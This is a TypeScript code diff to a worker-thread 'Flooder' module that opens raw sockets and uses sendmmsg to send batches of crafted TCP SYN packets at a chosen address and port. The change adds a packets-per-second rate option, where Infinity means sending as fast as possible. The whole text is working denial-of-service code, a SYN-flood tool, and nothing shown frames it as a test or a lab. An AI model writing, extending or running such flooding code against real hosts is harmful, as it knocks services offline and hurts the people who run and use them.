@@ -17,11 +17,13 @@ const BATCH = 64;
 const KINDS = 16_384;
 const HEADER = 64, VECTOR = 16, LENGTH = 40;
 
-/** What to send: at most so many; until the flag is not 0. With 0 it only makes itself ready. */
+/** What to send: at most so many, and so many per second; until the flag is not 0. With `most` 0 it only makes itself ready. */
 export interface FloodOrder {
   readonly to: string;
   readonly port: number;
   readonly most: number;
+  /** Infinity: as many as it can. */
+  readonly rate: number;
   readonly stop: Int32Array;
 }
 
@@ -53,7 +55,7 @@ class Flooder {
     this.#batches = Array.from({ length: KINDS / BATCH }, (_, index) => new DataView(headers.buffer, index * batch, batch));
   }
 
-  flood(most: number, stop: Int32Array): FloodAnswer {
+  flood(most: number, rate: number, stop: Int32Array): FloodAnswer {
     const socket = libc().socket(AF_INET, SOCK_RAW | O_CLOEXEC, IPPROTO_RAW);
     if (socket < 0) return { failed: `socket: ${errorName(lastError())}` };
     const began = performance.now();
@@ -61,6 +63,8 @@ class Flooder {
     while (sent < most && Atomics.load(stop, 0) === 0) {
       const batch = this.#batches[this.#next++ % this.#batches.length] as DataView<ArrayBuffer>;
       sent += Math.max(0, this.#calls.sendmmsg(socket, batch, BATCH, 0));
+      const early = sent / rate * 1000 - (performance.now() - began);
+      if (early > 0) Atomics.wait(stop, 0, 0, early);
     }
     libc().close(socket);
     return { sent, milliseconds: performance.now() - began };
@@ -83,7 +87,7 @@ function makeSyns(to: string, port: number): Uint8Array<ArrayBuffer> {
 /** This thread's end of the channel to the one that started it. */
 const channel = globalThis as unknown as Worker;
 let flooder: Flooder | undefined;
-channel.onmessage = ({ data: { to, port, most, stop } }: MessageEvent<FloodOrder>): void => {
+channel.onmessage = ({ data: { to, port, most, rate, stop } }: MessageEvent<FloodOrder>): void => {
   flooder ??= new Flooder(to, port);
-  channel.postMessage(flooder.flood(most, stop));
+  channel.postMessage(flooder.flood(most, rate, stop));
 };
